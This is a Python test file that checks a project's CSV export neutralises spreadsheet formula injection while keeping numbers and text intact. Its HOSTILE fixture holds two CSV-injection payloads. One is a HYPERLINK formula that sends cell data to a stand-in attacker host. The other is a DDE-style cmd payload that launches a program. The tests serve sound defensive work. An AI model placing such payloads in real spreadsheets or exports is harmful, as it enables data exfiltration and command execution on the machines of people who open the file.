"""Every CSV the project writes opens in a spreadsheet as data: formula-leading cells are neutralised
(OWASP "CSV Injection"), plain numbers (a negative amendment) stay numbers, and the text is otherwise kept."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import open_data_market
import pytest
import yaml
from open_data_support import build

from site_builder.dump import write_yaml
from site_builder.export.spreadsheet import FORMULA_STARTS, csv_bytes, safe_cell

PATH = "data/proactive-disclosure.csv"
HOSTILE = {
    "supplier": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "title_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title_fr": "+1+1",
    "contact": "-2+3",
}


def rows(content: bytes) -> list[dict[str, str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(content[3:].decode("utf-8"), newline="")))


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+A1", "'+A1"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-250.00", "-250.00"),
        ("+3", "+3"),
        ("Alice = Bob", "Alice = Bob"),
        ("", ""),
        (None, ""),
        (42, "42"),
    ],
)
def test_safe_cell(cell, shown):
    assert safe_cell(cell) == shown


def test_read_back_every_cell_is_data_and_text_survives():
    columns = ["a", "b"]
    written = [{"a": value, "b": "ok"} for value in ("=1+1", "@x", "-5", 'a,b"c\r\nd', "\t-1")]
    back = rows(csv_bytes(columns, written))
    assert [row["a"] for row in back] == ["'=1+1", "'@x", "-5", 'a,b"c\r\nd', "'\t-1"]
    assert all(row["b"] == "ok" for row in back)


def test_the_disclosure_csv_opens_safely_whatever_buyers_and_suppliers_wrote(tmp_path: Path):
    root = open_data_market.write(tmp_path / "market")
    folder = root / "opportunities" / "tbs" / "tbs-2026-001"
    award = yaml.safe_load((folder / "award.yaml").read_text("utf-8"))
    award["supplier"]["name"] = HOSTILE["supplier"]
    write_yaml(folder / "award.yaml", award)
    opportunity = yaml.safe_load((folder / "opportunity.yaml").read_text("utf-8"))
    opportunity["title"] = {"en": HOSTILE["title_en"], "fr": HOSTILE["title_fr"]}
    opportunity["contact"]["name"] = HOSTILE["contact"]
    write_yaml(folder / "opportunity.yaml", opportunity)

    found = rows(build(root).files[PATH])

    [row] = [row for row in found if row["reference_number"] == "tbs-2026-001-C"]
    assert row["vendor_name"] == "'" + HOSTILE["supplier"]
    assert row["comments_en"].startswith("'" + HOSTILE["title_en"] + ". ")
    assert row["comments_fr"].startswith("'" + HOSTILE["title_fr"] + ". ")
    assert row["buyer_name"] == "'" + HOSTILE["contact"]
    for each in found:
        for column, value in each.items():
            assert not value.startswith(FORMULA_STARTS) or value.lstrip("+-").replace(".", "").isdigit(), column
    amendments = [each for each in found if each["instrument_type"] == "A"]
    assert amendments and all(each["amendment_value"].startswith("-") for each in amendments)
